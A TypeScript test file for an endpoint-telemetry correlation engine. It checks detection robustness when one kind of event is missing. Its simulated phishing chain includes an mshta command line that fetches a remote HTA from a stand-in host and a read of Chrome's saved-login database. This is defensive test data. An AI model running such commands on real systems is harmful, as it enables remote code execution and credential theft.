import { existsSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { branchesOf } from '../analytics/matching/branches';
import {
  CMD,
  callsOut,
  catalogue,
  digest,
  EDGE,
  homeOf,
  MSHTA,
  mailCacheOf,
  OUTLOOK,
  POWERSHELL,
  storyOf,
  WORD,
  WSCRIPT,
} from '../analytics/testStory';
import { correlateFiles } from '../cli/analyzeFiles';
import type { EndpointEvent, EventKind } from '../events/endpointEvent';
import type { Finding } from '../findings/finding';
import { buildVisibility } from '../visibility/visibility';
import { correlateHost } from './correlate';

/** Without these there are no processes at all, and no chain to be blind about. */
const NEVER_REMOVED: ReadonlySet<EventKind> = new Set(['process_start']);

const DATA = path.join(import.meta.dirname, '..', '..', '..', 'shared', 'data');
const RECORDINGS = [
  'mordor/cmd_mshta_vbscript_execute_psh.zip',
  'mordor/psh_mshta_html_application_execution.zip',
  'evtx/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx',
].filter((file) => existsSync(path.join(DATA, file)));
if (RECORDINGS.length === 0)
  process.stdout.write(
    'skipped recordings with kinds removed: no folder ../shared/data beside the project\n',
  );

const correlate = (events: readonly EndpointEvent[]): readonly Finding[] =>
  correlateHost({ host: 'ws01', events, catalogue, digest }).findings;

/** An SVG's second stage, a browser store that is read, and a macro's mshta, each with what follows. */
function story(quiet: boolean): readonly EndpointEvent[] {
  const { s } = storyOf({ quiet });
  const outlook = s.starts(OUTLOOK);
  const svg = `${mailCacheOf(s)}\\Factura.svg`;
  s.writes(outlook, svg);
  s.marks(outlook, svg);
  const edge = s.starts(EDGE, { commandLine: `"${EDGE}" --single-argument ${svg}` });
  s.after('5s');
  const zip = `${homeOf(s)}\\Downloads\\Factura.zip`;
  s.writes(edge, zip);
  s.marks(edge, zip, { hostUrl: 'about:internet' });
  const script = `${homeOf(s)}\\AppData\\Local\\Temp\\Temp1_Factura.zip\\Factura.js`;
  s.writes(s.explorer, script);
  const host = s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` });
  callsOut(s, host);
  s.reads(host, `${homeOf(s)}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data`);
  const word = s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Downloads\\offer.docm"` });
  const mshta = s.starts(MSHTA, { parent: word, commandLine: `${MSHTA} https://files.example/a.hta` });
  s.resolves(mshta, 'files.example', ['203.0.113.9']);
  s.writes(mshta, `${homeOf(s)}\\AppData\\Local\\Temp\\a.exe`);
  s.starts(CMD, { parent: mshta });
  s.starts(POWERSHELL, { parent: mshta });
  return s.events();
}

describe('a kind of telemetry that is not collected', () => {
  it.each([
    ['on a host that says nothing else', story(true)],
    ['in the middle of a working day', story(false)],
  ])('leaves stages blind, none absent that was there, and finds nothing new: %s', (_, events) => {
    expect(correlate(events).length).toBeGreaterThan(0);
    expectHonest(events);
  });

  it.each(RECORDINGS)(
    'leaves stages blind, none absent that was there, and finds nothing new: %s',
    { timeout: 300_000 },
    async (file) => {
      const { recording } = await correlateFiles([path.join(DATA, file)], {
        catalogue,
        onProgress: () => undefined,
      });
      let found = 0;
      for (const events of recording.events.values()) {
        found += correlate(events).length;
        expectHonest(events);
      }
      expect(found).toBeGreaterThan(0);
    },
  );
});

function expectHonest(events: readonly EndpointEvent[]): void {
  const whole = correlate(events);
  if (whole.length === 0) return;
  const kinds = [...new Set(events.map((event) => event.kind))]
    .filter((kind) => !NEVER_REMOVED.has(kind))
    .sort();
  for (const kind of kinds) {
    const left = correlate(events.filter((event) => event.kind !== kind));
    for (const finding of left) {
      const before = whole.find((one) => isSame(one, finding));
      const told = `without ${kind}: ${finding.analytic} ${finding.headline}`;
      if (finding.status === 'complete') expect(before?.status, told).toBe('complete');
      for (const stage of finding.stages) {
        const was = before?.stages.find((one) => one.id === stage.id)?.state;
        if (was === undefined || was === stage.state) continue;
        expect([was, stage.state], `${told}: ${stage.id} (${stage.stateReason})`).toEqual([was, 'blind']);
        expect(dependents(finding.analytic, kind, events), `${told}: ${stage.id}`).toContain(stage.id);
      }
    }
  }
}

function isSame(a: Finding, b: Finding): boolean {
  return a.analytic === b.analytic && (a.id === b.id || a.anchor.entityId === b.anchor.entityId);
}

/** Stages that hang on a kind: by what they are on, need or are witnessed by, or by a stage they relate to. */
function dependents(id: string, kind: EventKind, events: readonly EndpointEvent[]): readonly string[] {
  const visibility = buildVisibility(events);
  const stages = catalogue.analytics.find((analytic) => analytic.id === id)?.stages ?? [];
  const found = new Set<string>();
  for (const stage of stages) {
    const { needs, witness } = stage.telemetry;
    const own =
      needs.includes(kind) ||
      witness?.on.has(kind) === true ||
      stage.alternatives.some(({ on }) => on.has(kind)) ||
      branchesOf(stage, visibility).some(({ kinds }) => kinds.includes(kind));
    const related = stage.alternatives.some(({ relations }) => relations.some(({ to }) => found.has(to)));
    if (own || related) found.add(stage.id);
  }
  return [...found];
}
